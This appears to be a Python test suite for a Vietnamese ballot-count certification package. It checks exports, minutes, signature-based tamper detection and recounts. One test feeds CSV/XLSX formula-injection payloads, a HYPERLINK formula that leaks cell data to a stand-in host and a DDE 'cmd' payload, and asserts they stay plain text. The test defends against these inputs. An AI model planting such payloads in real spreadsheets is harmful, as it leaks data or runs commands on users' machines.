"""The certified package: what it holds, how the minutes look, and that no tampering passes.

Built once from the Hà Nội case (88 scanned ballots, certified through the
real CLI; `certified_case.hanoi_case`). Every byte-level tamper is tried on
every file of the package (one byte changed at its start, middle and end),
and a file missing or added; each must make ``verify`` fail and name the
file. ``retally`` must reproduce the certified count exactly, from the
workspace and from the package alone. The minutes are rendered to PNG and
compared with golden renders (regenerate with ``KIEMPHIEU_UPDATE_GOLDEN=1``,
after looking at the new render).
"""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import json
import os
import shutil
import stat
import zipfile
from pathlib import Path

import numpy as np
import pypdfium2 as pdfium
import pytest
from certified_case import hanoi_case, run
from PIL import Image

from pipeline.documents.export import result_csv, result_xlsx
from pipeline.documents.minutes import chart_png, minutes_pdf
from pipeline.documents.verify import verify_package

GOLDEN = Path(__file__).parent / "golden"


@pytest.fixture(scope="module")
def hanoi(tmp_path_factory):
    return hanoi_case(tmp_path_factory)


@pytest.fixture(scope="module")
def doc(hanoi) -> dict:
    return json.loads((hanoi.pkg / "tally.json").read_text("utf-8"))


def package_files(pkg: Path) -> list[str]:
    return sorted(p.relative_to(pkg).as_posix() for p in pkg.rglob("*") if p.is_file())


def test_package_holds_every_document_and_every_scan(hanoi, doc) -> None:
    files = package_files(hanoi.pkg)
    for name in ("bien-ban-kiem-phieu.pdf", "bien-ban-kiem-phieu.docx", "ket-qua.csv",
                 "ket-qua.xlsx", "tally.json", "campaign.yaml", "manifest.json", "manifest.sig",
                 "public-key.pem"):
        assert name in files
    scans = [f for f in files if f.startswith("scans/")]
    assert len(scans) == 88 == len(doc["pages"])
    for name in scans:
        assert hashlib.sha256((hanoi.pkg / name).read_bytes()).hexdigest() == Path(name).stem
    manifest = json.loads((hanoi.pkg / "manifest.json").read_text("utf-8"))
    listed = {e["path"]: e["sha256"] for e in manifest["files"]}
    assert set(listed) == set(files) - {"manifest.json", "manifest.sig", "public-key.pem"}
    key = hanoi.ws / "keys" / "workspace-ed25519.pem"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert manifest["key"]["sha256"] == doc["key_sha256"]


def test_tally_json_is_the_contract_tally_and_more(doc) -> None:
    for key in ("campaign", "rules", "electorate", "ballots", "base", "pending_review",
                "certified", "candidates"):
        assert key in doc
    assert doc["campaign"] == "hn-hdnd-2023" and doc["certified"] is True
    assert doc["ballots"]["issued"] == 90 and doc["ballots"]["collected"] == 88
    first = doc["candidates"][0]
    assert first["percent"] == {"high": 85.23, "medium": 9.09, "low": 4.55}
    assert doc["candidates"][4]["consequence_text"].endswith("(khoản 3 Điều 12 Nghị quyết số 96/2023/QH15).")
    assert doc["declared"]["head"] == "Nguyễn Thị Trưởng Ban"
    assert doc["reconciliation"]["matches"] is True
    assert doc["certification"]["thresholds"]["definite"] == 0.09
    assert any(d["state"] == "resolved" for d in doc["decisions"]) or not doc["decisions"]


def test_csv_opens_in_excel_with_the_golden_figures(hanoi) -> None:
    raw = (hanoi.pkg / "ket-qua.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:3] == ["STT", "Họ và tên", "Chức vụ"]
    assert rows[1][:9] == ["1", "Trần Sỹ Thanh", "Chủ tịch UBND thành phố", "75", "8", "4",
                           "85.23", "9.09", "4.55"]
    assert [r[-2] for r in rows[1:]] == ["", "", "over_half_low", "over_half_low", "two_thirds_low"]


def test_xlsx_has_numbers_not_text(hanoi) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(hanoi.pkg / "ket-qua.xlsx")
    sheet = wb["Kết quả"]
    rows = [r for r in sheet.iter_rows(values_only=True) if r and r[0] == 1]
    assert rows[0][:9] == (1, "Trần Sỹ Thanh", "Chủ tịch UBND thành phố", 75, 8, 4, 85.23, 9.09, 4.55)
    assert "Đối chiếu" in wb.sheetnames


FORMULAS = ('=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+2", "-3+4", "@SUM(A1:A9)",
            "\tTab", "\r=1")


def test_names_and_notes_that_look_like_formulas_stay_text(doc) -> None:
    """A person named like a formula, or a committee note written as one, is text in the CSV
    (behind an apostrophe) and the XLSX (a string cell): no spreadsheet runs it."""
    from openpyxl import load_workbook

    doc = copy.deepcopy(doc)
    for c, text in zip(doc["candidates"], FORMULAS, strict=False):
        c["name"] = text
    doc["candidates"][0]["position"] = "=1+1"
    doc["reconciliation"]["note"] = "=cmd|' /C calc'!A0"
    rows = list(csv.reader(io.StringIO(result_csv(doc).decode("utf-8-sig"))))
    assert [r[1] for r in rows[1:]] == ["'" + f for f in FORMULAS[:len(doc["candidates"])]]
    assert rows[1][2] == "'=1+1" and rows[1][3] == "75"
    data = result_xlsx(doc)
    with zipfile.ZipFile(io.BytesIO(data)) as xlsx:
        assert not any(b"<f>" in xlsx.read(n) for n in xlsx.namelist() if n.endswith(".xml"))
    wb = load_workbook(io.BytesIO(data))
    people = [r for r in wb["Kết quả"].iter_rows() if r[0].value in (1, 2, 3, 4, 5)]
    assert [r[1].value for r in people] == list(FORMULAS[:len(people)])
    assert all(r[1].data_type == "s" and r[1].quotePrefix for r in people)
    assert people[0][3].value == 75 and people[0][3].data_type == "n"
    notes = [r[1] for r in wb["Đối chiếu"].iter_rows() if r[1].value == "=cmd|' /C calc'!A0"]
    assert len(notes) == 1 and notes[0].data_type == "s"


def pdf_text(path: Path) -> str:
    pdf = pdfium.PdfDocument(str(path))
    return "\n".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf)))


def test_minutes_say_what_a_committee_signs(hanoi) -> None:
    text = " ".join(pdf_text(hanoi.pkg / "bien-ban-kiem-phieu.pdf").split())
    for phrase in ("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc",
                   "HỘI ĐỒNG NHÂN DÂN THÀNH PHỐ HÀ NỘI", "BAN KIỂM PHIẾU", "BIÊN BẢN KIỂM PHIẾU",
                   "Hà Nội, ngày 07 tháng 12 năm 2023", "Căn cứ Nghị quyết số 96/2023/QH15",
                   "Số phiếu phát ra: 90 phiếu", "Số phiếu thu về: 88 phiếu",
                   "85,23", "9,09", "4,55", "Trần Sỹ Thanh", "Điều 12 Nghị quyết số 96/2023/QH15",
                   "Kết quả đối chiếu: khớp", "TRƯỞNG BAN KIỂM PHIẾU", "CÁC THÀNH VIÊN",
                   "Nguyễn Thị Trưởng Ban", "Phạm Thị Thư Ký"):
        assert phrase in text, phrase


def test_minutes_docx_says_the_same_in_times_new_roman(hanoi) -> None:
    import docx

    d = docx.Document(str(hanoi.pkg / "bien-ban-kiem-phieu.docx"))
    text = "\n".join(p.text for p in d.paragraphs)
    cells = [c.text for t in d.tables for row in t.rows for c in row.cells]
    assert "BIÊN BẢN KIỂM PHIẾU" in text and "Căn cứ Nghị quyết số 96/2023/QH15" in text
    assert "85,23" in cells and "Trần Sỹ Thanh" in cells and "TRƯỞNG BAN KIỂM PHIẾU" in " ".join(cells)
    assert d.styles["Normal"].font.name == "Times New Roman"
    import unicodedata
    assert unicodedata.is_normalized("NFC", text)


def render(pdf_bytes: bytes, index: int, dpi: int = 60) -> np.ndarray:
    page = pdfium.PdfDocument(pdf_bytes)[index]
    return np.asarray(page.render(scale=dpi / 72, grayscale=True).to_pil().convert("L"))


def golden_compare(image: np.ndarray, name: str) -> None:
    path = GOLDEN / name
    if os.environ.get("KIEMPHIEU_UPDATE_GOLDEN") == "1":
        Image.fromarray(image).save(path, optimize=True)
    assert path.exists(), f"no golden file; run with KIEMPHIEU_UPDATE_GOLDEN=1 to create {path}"
    golden = np.asarray(Image.open(path).convert("L"))
    assert golden.shape == image.shape
    changed = float(np.mean(np.abs(golden.astype(np.int16) - image.astype(np.int16)) > 64))
    assert changed < 0.002, (
        f"{changed:.2%} of pixels differ from {name}; if the change is intended, look at the "
        "new render and rerun with KIEMPHIEU_UPDATE_GOLDEN=1")


def test_minutes_first_page_matches_the_golden_render(doc) -> None:
    golden_compare(render(minutes_pdf(doc), 0), "minutes-hanoi-page1-60dpi.png")


def test_chart_matches_the_golden_render(doc) -> None:
    image = np.asarray(Image.open(io.BytesIO(chart_png(doc, dpi=60))).convert("L"))
    golden_compare(image, "minutes-hanoi-chart-60dpi.png")


# -- verify: every tamper is detected ---------------------------------------------


def test_untouched_package_verifies(hanoi, doc) -> None:
    proc = run("verify", str(hanoi.pkg), "--key", doc["key_sha256"])
    assert "OK" in proc.stdout


def test_one_changed_byte_in_any_file_is_detected(hanoi) -> None:
    pkg = hanoi.pkg
    tried = 0
    for name in package_files(pkg):
        path = pkg / name
        original = path.read_bytes()
        for at in sorted({0, len(original) // 2, len(original) - 1}):
            data = bytearray(original)
            data[at] ^= 0x01
            path.write_bytes(bytes(data))
            try:
                result = verify_package(pkg)
            finally:
                path.write_bytes(original)
            assert not result.ok, (name, at)
            where = {p.path for p in result.problems}
            assert where & {name, "manifest.sig", "public-key.pem", "manifest.json"}, (name, where)
            if name not in ("manifest.json", "manifest.sig", "public-key.pem"):
                # the file itself, then what the certificate says of it (its records, the
                # campaign file's hash)
                kinds = [(p.kind, p.path) for p in result.problems]
                assert kinds[0] == ("changed", name), kinds
                assert all(k in ("disagrees", "bad_certificate") for k, _ in kinds[1:]), kinds
            tried += 1
    assert tried >= 3 * 90
    assert verify_package(pkg).ok


def test_tamper_is_reported_by_the_cli_naming_the_file(hanoi, tmp_path: Path) -> None:
    pkg = tmp_path / "pkg"
    shutil.copytree(hanoi.pkg, pkg)
    csv_path = pkg / "ket-qua.csv"
    csv_path.write_bytes(csv_path.read_bytes().replace(b"85.23", b"95.23"))
    proc = run("verify", str(pkg), check=False)
    assert proc.returncode == 1 and "ket-qua.csv: changed" in proc.stderr and "NOT VALID" in proc.stderr
    shutil.copyfile(hanoi.pkg / "ket-qua.csv", csv_path)

    scan = sorted((pkg / "scans").iterdir())[0]
    scan.unlink()
    (pkg / "scans" / "extra.jpg").write_bytes(b"\xff\xd8\xff")
    proc = run("verify", str(pkg), check=False)
    assert proc.returncode == 1
    assert f"scans/{scan.name}: missing" in proc.stderr and "scans/extra.jpg: added" in proc.stderr


def test_a_resigned_package_with_another_key_is_caught_by_the_trusted_key(hanoi, doc,
                                                                         tmp_path: Path) -> None:
    """Someone re-signs an altered package with a key of their own: the signature is valid,
    but the key is not the one printed in the signed minutes."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from pipeline.documents.export import sha256_file
    from pipeline.store.keys import key_fingerprint, public_pem

    pkg = tmp_path / "pkg"
    shutil.copytree(hanoi.pkg, pkg)
    (pkg / "ket-qua.csv").write_bytes(b"\xef\xbb\xbfforged\r\n")
    manifest = json.loads((pkg / "manifest.json").read_text("utf-8"))
    for e in manifest["files"]:
        e["sha256"] = sha256_file(pkg / e["path"])
        e["bytes"] = (pkg / e["path"]).stat().st_size
    key = Ed25519PrivateKey.generate()
    manifest["key"]["sha256"] = key_fingerprint(key.public_key())
    data = (json.dumps(manifest, ensure_ascii=False, indent=1) + "\n").encode()
    (pkg / "manifest.json").write_bytes(data)
    import base64
    (pkg / "manifest.sig").write_bytes(base64.b64encode(key.sign(data)) + b"\n")
    (pkg / "public-key.pem").write_bytes(public_pem(key))
    del serialization
    # the manifest is consistent, but the certificate inside names the workspace's key
    alone = verify_package(pkg)
    assert [(p.kind, p.path) for p in alone.problems] == [
        ("bad_certificate", "certificate.json"), ("bad_certificate", "certificate.json")]
    result = verify_package(pkg, trusted_key=doc["key_sha256"])
    assert result.problems[0].kind == "untrusted_key"


# -- retally -------------------------------------------------------------------------


def test_retally_reproduces_the_certified_count_exactly(hanoi) -> None:
    for source in (hanoi.ws, hanoi.pkg):
        proc = run("retally", str(source))
        assert "identical to the certified one" in proc.stdout and "88 page image(s)" in proc.stdout


def test_retally_names_a_difference(hanoi, tmp_path: Path) -> None:
    """A certified count altered in the records no longer matches a fresh reading."""
    ws = tmp_path / "ws"
    shutil.copytree(hanoi.ws, ws)
    from sqlalchemy import create_engine, text

    engine = create_engine(f"sqlite:///{ws / 'kiemphieu.db'}")
    with engine.begin() as conn:
        tally = json.loads(conn.execute(text("select tally from certification")).scalar_one())
        tally["candidates"][4]["counts"]["low"] = 60
        conn.execute(text("update certification set tally = :t"), {"t": json.dumps(tally)})
    engine.dispose()
    proc = run("retally", str(ws), check=False)
    assert proc.returncode == 1
    assert "STT 5 Người Thứ Năm: counts certified" in proc.stderr


def test_retally_names_stored_images_missing_or_altered_in_page_order(hanoi, tmp_path: Path
                                                                     ) -> None:
    """In a workspace (no package to verify first), a stored image removed and another
    altered are each named, in the order of the pages, and the count differs."""
    ws = tmp_path / "ws"
    shutil.copytree(hanoi.ws, ws)
    from sqlalchemy import create_engine, text

    engine = create_engine(f"sqlite:///{ws / 'kiemphieu.db'}")
    with engine.connect() as conn:
        paths = [r[0] for r in conn.execute(text("select image_path from page order by id"))]
    engine.dispose()
    (ws / paths[2]).unlink()
    altered = ws / paths[5]
    altered.write_bytes(altered.read_bytes() + b"\0")
    proc = run("retally", str(ws), check=False)
    assert proc.returncode == 1
    missing = proc.stderr.index("stored image cannot be read")
    changed = proc.stderr.index("SHA-256 is not the one stored")
    assert missing < changed


def test_retally_refuses_a_tampered_package(hanoi, tmp_path: Path) -> None:
    pkg = tmp_path / "pkg"
    shutil.copytree(hanoi.pkg, pkg)
    scan = sorted((pkg / "scans").iterdir())[3]
    data = bytearray(scan.read_bytes())
    data[len(data) // 2] ^= 0xFF
    scan.write_bytes(bytes(data))
    proc = run("retally", str(pkg), check=False)
    assert proc.returncode == 1 and "does not verify" in proc.stderr and scan.name in proc.stderr


def test_export_refuses_an_uncertified_workspace_and_a_used_folder(hanoi, tmp_path: Path) -> None:
    proc = run("export", str(hanoi.ws), "--out", str(hanoi.pkg), check=False)
    assert proc.returncode == 1 and "not an empty folder" in proc.stderr
